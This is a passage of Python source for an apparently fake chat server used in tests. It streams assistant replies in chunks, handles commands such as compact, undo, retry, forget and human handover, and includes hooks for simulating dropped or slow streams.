    async def _stream(self, session: Session, turn: int, text: str, whole: str) -> str:
        sent = ""
        for start in range(0, len(whole), 24):
            if session.stop.is_set():
                break
            part = whole[start : start + 24]
            off = len(sent.encode("utf-16-le")) // 2
            frame = {"t": "delta", "mid": f"t{turn}", "turn": turn, "attempt": 1, "off": off, "text": part}
            await self.send(session, frame)
            sent += part
            session.run = {"turn": turn, "state": "started", "text": sent}
            if text.startswith("drop") and start == 240:
                await self._abort(session)
            await asyncio.sleep(0.004)
            held = text.startswith("slow") and start >= 240
            while held and not session.stop.is_set() and not self.release.is_set():
                await asyncio.sleep(0.01)
        return sent

    # ---- commands ----

    async def _command(self, socket: Socket, session: Session, frame: dict[str, Any]) -> None:
        cid, name = frame["cid"], frame["command"]
        await socket.send_json({"t": "ack", "cid": cid, "mid": "", "event_seq": len(session.events)})
        if name == "compact":
            self._task(self.compact(session, cid))
        elif name == "undo":
            await self._undo(session, cid)
        elif name == "new":
            session.events.clear()
            self.renamed = f"s-{next(self._ids)}"  # numbers begin anew in another session only
            session.used = 0
            for one in list(session.sockets):
                await self._hello(one, {"last_seq": 0, "token": session.token}, session.token)
                session.sockets.pop()
            await self.result(session, cid, "new", "A new conversation.")
        elif name == "retry":
            await self._again(socket, session, cid)
        elif name == "forget":
            await self._forget(session, cid, frame["args"])
        elif name == "human":
            cancelled = frame["args"] == "cancel"
            await self.hand_over(session, "bot" if cancelled else "waiting")
            await self.result(session, cid, name, "All right." if cancelled else "I have asked for somebody.")
        else:
            await self.result(session, cid, name, f"**{name}** says hello.")

    async def _again(self, socket: Socket, session: Session, cid: str) -> None:
        """Answers the last question once more; a repeated wish is the same one."""
        body = {"t": "command.result", "cid": cid, "command": "retry"}
        if session.run is not None:
            await socket.send_json(body | {"success": False, "error": "I am still answering."})
            return
        await socket.send_json(body | {"success": True, "result": "Again."})
        if cid in session.cids:
            return
        asked = [event for event in session.events if event.get("role") == "person"][-1]
        given = [event["mid"] for event in session.events if event.get("role") == "assistant"]
        session.cids[cid] = asked
        session.turn += 1
        session.again[session.turn] = given[-1] if given else ""
        session.waiting.append((session.turn, asked["mid"], f"{asked['text']} (again)"))
        self._task(self._answers(session))

    async def _forget(self, session: Session, cid: str, args: str) -> None:
        if args == "everything yes":
            session.pinned.clear()
            await self.durable(session, {"t": "erased"})
            await self.result(session, cid, "forget", "Forgotten: 2 messages.")
        else:
            words = (
                "That would be **2 messages**. To go on, send `/forget everything yes` within ten minutes."
            )
            await self.result(session, cid, "forget", words)

    async def hand_over(self, session: Session, state: str, name: str = "", *, rate: int = 0) -> None:
        """The conversation changes hands."""
        event: dict[str, Any] = {"t": "handover", "state": state, "at": _now()}
        event |= ({"name": name} if name else {}) | ({"rate": rate} if rate else {})
        session.handover = None if state == "bot" else event
        await self.durable(session, event)

    async def write(self, session: Session, text: str, name: str = "Ann") -> None:
        """An operator's words."""
        event = {"t": "msg", "mid": f"m{next(self._ids)}", "role": "operator", "name": name, "text": text}
        await self.durable(session, event | {"at": _now()})

    async def lapse(self, session: Session, code: str) -> None:
        """Nobody came, or nobody writes any more: said in English and by a code."""
        await self.hand_over(session, "bot")
        event = {"t": "msg", "mid": f"n{next(self._ids)}", "role": "notice", "text": ADVICE[code]}
        await self.durable(session, event | {"error": code, "waiting": True, "at": _now()})

    async def result(self, session: Session, cid: str, name: str, text: str, *, good: bool = True) -> None:
        """The durable end of a command."""
        body = {"result": text} if good else {"result": "", "error": text}
        await self.durable(
            session, {"t": "command.result", "cid": cid, "command": name, "success": good} | body
        )

    async def compact(self, session: Session, cid: str) -> None:
        """Summarises all but the last message, with visible progress; by itself where nobody asked."""
        ident = f"k{next(self._ids)}"
        for percent in (5, 40, 80):
            session.compaction = {"id": ident, "started_at": _now(), "percent": percent}
            progress = {"id": ident, "percent": percent, "stage": "summary", "state": "running"}
            await self.send(session, {"t": "compaction.progress"} | progress)
            await asyncio.sleep(1.1 if percent == 40 else 0.15)
            while percent == 40 and not self.hold_progress.is_set():
                await asyncio.sleep(0.01)
        while self.deaf:
            await asyncio.sleep(0.01)
        messages = [event for event in session.events if event["t"] == "msg"]
        before, session.used = session.used, session.used // 3
        session.compaction = None
        covered = messages[:-2] or messages
        card: dict[str, Any] = {"t": "compaction", "id": ident, "state": "done", "kind": "summary"}
        card |= {"before": before, "after": session.used, "trigger": "manual"}
        place = {
            "through_turn": covered[-1]["turn"],
            "from_mid": covered[0]["mid"],
            "to_mid": covered[-1]["mid"],
        }
        summary = {"summary": "## Goals\nTalk about **tests**.\n\n- one\n- two", "can_undo": True}
        await self.durable(session, card | place | summary)
        await self.send(session, {"t": "ctx"} | ctx(session.used))
        if cid:
            await self.result(session, cid, "compact", f"Summarised: {before:,} → {session.used:,} tokens.")

    async def _undo(self, session: Session, cid: str) -> None:
        cards = [event for event in session.events if event["t"] == "compaction"]
        if not cards or cards[-1]["state"] != "done":
            await self.result(session, cid, "undo", "There is nothing to undo.", good=False)
            return
        session.used = cards[-1]["before"]
        await self.durable(session, cards[-1] | {"state": "undone", "can_undo": False})
        await self.send(session, {"t": "ctx"} | ctx(session.used))
        await self.result(session, cid, "undo", "The originals are back.")

    def only(self) -> Session:
        """The one session of a test."""
        (session,) = self.sessions.values()
        return session


def _number(event: dict[str, Any]) -> int:
    return int(event["event_seq"])


def _subject(identity: str) -> str:
    """Whom a signature is about, where it has three parts; else all of it is a name."""
    parts = identity.split(".")
    if len(parts) != 3:
        return identity
    return str(json.loads(base64.urlsafe_b64decode(parts[1] + "=="))["sub"])


def _now() -> str:
    return datetime.now(UTC).isoformat()
